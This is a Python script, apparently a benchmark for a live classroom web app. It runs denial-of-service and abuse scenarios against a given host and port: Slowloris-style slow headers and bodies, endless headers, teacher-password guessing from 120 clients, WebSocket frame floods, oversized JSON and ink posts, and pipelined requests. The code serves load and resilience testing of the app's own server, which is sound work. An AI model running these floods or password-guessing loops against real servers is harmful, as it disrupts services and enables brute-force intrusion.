"""Attackers of a live classroom, without imports that take long: each runs as a program.

An attacker knows the address of a projector, and has the cookie of a student of another class:

python benchmarks/attackers.py "endless header" 127.0.0.1 8000 CLASS COOKIE
"""

from __future__ import annotations

import asyncio
import os
import re
import socket
import sys
from collections.abc import Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

CHUNK = 65_536
"""Bytes that are sent at a time."""

PAGES, PROJECTORS = 8, 20
"""As many WebSockets as a student, or the projectors of a class, may open."""


@dataclass(frozen=True)
class Target:
    """A server to attack, the class whose projector is known, and the cookie of a student."""

    host: str
    port: int
    board: str = ""
    cookie: str = ""

    def request(self, path: str, body: bytes) -> bytes:
        """Return a request with a body, as a page of the server would send it."""
        here = f"{self.host}:{self.port}"
        head = (
            f"POST {path} HTTP/1.1\r\nHost: {here}\r\nOrigin: http://{here}\r\n"
            f"Cookie: {self.cookie}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n"
        )
        return head.encode() + body

    def upgrade(self, query: str = "") -> bytes:
        """Return a request that opens a WebSocket."""
        here = f"{self.host}:{self.port}"
        return (
            f"GET /api/live{query} HTTP/1.1\r\nHost: {here}\r\nOrigin: http://{here}\r\n"
            f"Cookie: {self.cookie}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()


async def endless_header(target: Target) -> None:
    """Send a header that never ends, as fast as it is taken; begin again when cut off."""
    while True:
        with suppress(OSError), socket.create_connection((target.host, target.port)) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: school\r\nX-Long: ")
            while True:
                connection.sendall(b"a" * 65_536)


async def slow_headers(target: Target) -> None:
    """Hold 300 requests whose headers never end, and which grow by some bytes each second."""
    await _trickled(target, b"GET / HTTP/1.1\r\nHost: school\r\n", b"X-Slow: 1\r\n")


async def slow_bodies(target: Target) -> None:
    """Hold 300 requests whose bodies arrive very slowly."""
    begun = target.request("/api/join", b"{" + b" " * 9999)[:-9999]
    await _trickled(target, begun, b" ")


async def _trickled(target: Target, begin: bytes, drop: bytes) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(target.host, target.port)
                writer.write(begin)
                cut_off = False
                while not cut_off:
                    writer.write(drop)
                    with suppress(TimeoutError):
                        cut_off = not await asyncio.wait_for(reader.read(1000), 1.0)
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(300)))


async def guessed_passwords(target: Target, *, addresses: int = 1) -> None:
    """Guess passwords from 120 clients, each as fast as it is answered."""
    guess = target.request("/api/teacher/sign-in", b'{"password": "a guess"}')
    sources = [(f"127.0.0.{1 + number % addresses}", 0) for number in range(120)]
    await asyncio.gather(*(_repeated(target, guess, source) for source in sources))


async def guessed_from_120_addresses(target: Target) -> None:
    """Do the same from as many addresses."""
    await guessed_passwords(target, addresses=120)


async def _repeated(target: Target, request: bytes, source: tuple[str, int] | None = None) -> None:
    """Send a request again and again, each when the one before is answered."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(
                target.host, target.port, local_addr=source
            )
            while not writer.is_closing():
                writer.write(request)
                answer = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
                [length] = re.findall(r"content-length: (\d+)", answer, re.IGNORECASE)
                await reader.readexactly(int(length))
                if "connection: close" in answer.lower():
                    writer.transport.abort()


def _frame(opcode: int, payload: bytes = b"") -> bytes:
    """Return a frame of a WebSocket with fewer than 126 bytes, masked with zeros."""
    return bytes((0x80 | opcode, 0x80 | len(payload), 0, 0, 0, 0)) + payload


def flood(frame: bytes, *, projector: bool, read: bool = False) -> Attack:
    """Return an attack that sends a frame again and again over WebSockets, as fast as possible."""

    async def attack(target: Target) -> None:
        query = f"?board={target.board}" if projector else ""
        many = frame * (CHUNK // len(frame))

        async def one() -> None:
            while True:
                with suppress(OSError, asyncio.IncompleteReadError):
                    reader, writer = await asyncio.open_connection(target.host, target.port)
                    writer.write(target.upgrade(query))
                    await reader.readuntil(b"\r\n\r\n")
                    while not writer.is_closing():
                        writer.write(many)
                        await writer.drain()
                        if read:
                            await reader.read(CHUNK)

        await asyncio.gather(*(one() for _ in range(PROJECTORS if projector else PAGES)))

    return attack


async def large_joins(target: Target) -> None:
    """Send 1 MB of JSON to the page where students join, as fast as it is answered."""
    fields = ",".join(f'"{number}":[{number}]' for number in range(60_000))
    await _repeated(target, target.request("/api/join", f"{{{fields}}}".encode()))


async def allowed_joins(target: Target) -> None:
    """Send as much JSON to the same page as it takes, from 20 clients."""
    fields = ",".join(f'"{number}":1' for number in range(1_700))
    request = target.request("/api/join", f"{{{fields}}}".encode())
    await asyncio.gather(*(_repeated(target, request) for _ in range(20)))


async def refused_ink(target: Target) -> None:
    """Send as much ink as a letter may have from a student whose class does not write."""
    point = '{"x":1,"y":1,"t":1}'
    strokes = ",".join(f"[{','.join([point] * 200)}]" for _ in range(48))
    await _repeated(
        target, target.request("/api/ink", f'{{"round":1,"strokes":[{strokes}]}}'.encode())
    )


async def large_ink(target: Target) -> None:
    """Send far more ink, from the same student."""
    point = '{"x":1,"y":1,"t":1}'
    strokes = ",".join(f"[{','.join([point] * 1000)}]" for _ in range(48))
    await _repeated(
        target, target.request("/api/ink", f'{{"round":1,"strokes":[{strokes}]}}'.encode())
    )


async def foreign_joins(target: Target) -> None:
    """Send requests to the same page without ``Origin``, from 20 clients."""
    request = target.request("/api/join", b'{"code": "none", "nickname": "none"}')
    own = f"Origin: http://{target.host}:{target.port}\r\n".encode()
    foreign = request.replace(own, b"")
    await asyncio.gather(*(_repeated(target, foreign) for _ in range(20)))


async def pipelined(target: Target) -> None:
    """Send 40 requests at a time, and close before they are answered, from four connections."""
    forty = target.request("/api/join", b'{"code": "none", "nickname": "none"}') * 40

    async def one() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(target.host, target.port)
                writer.write(forty)
                await reader.read(10)
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(4)))


Attack = Callable[[Target], Coroutine[Any, Any, None]]

PING, PONG, TEXT = 9, 10, 1

ATTACKS: dict[str, Attack] = {
    "endless header": endless_header,
    "300 slow headers": slow_headers,
    "300 slow bodies": slow_bodies,
    "120 clients guess passwords": guessed_passwords,
    "the same, from 120 addresses": guessed_from_120_addresses,
    "a student sends PINGs": flood(_frame(PING), projector=False),
    "a student sends text": flood(_frame(TEXT, b"ping"), projector=False, read=True),
    "a projector sends PINGs": flood(_frame(PING), projector=True),
    "a projector sends PONGs": flood(_frame(PONG), projector=True),
    "a projector sends text": flood(_frame(TEXT, b"ping"), projector=True),
    "a projector sends invalid text": flood(_frame(TEXT, b"\xff"), projector=True),
    "1 MB of JSON": large_joins,
    "16 kB of JSON": allowed_joins,
    "1 MB of ink": large_ink,
    "200 kB of ink": refused_ink,
    "requests without Origin": foreign_joins,
    "40 requests at a time": pipelined,
}

if __name__ == "__main__":
    attack, at, listening, *known = sys.argv[1:]
    print("begins", flush=True)
    os.nice(10)
    asyncio.run(ATTACKS[attack](Target(at, int(listening), *known)))
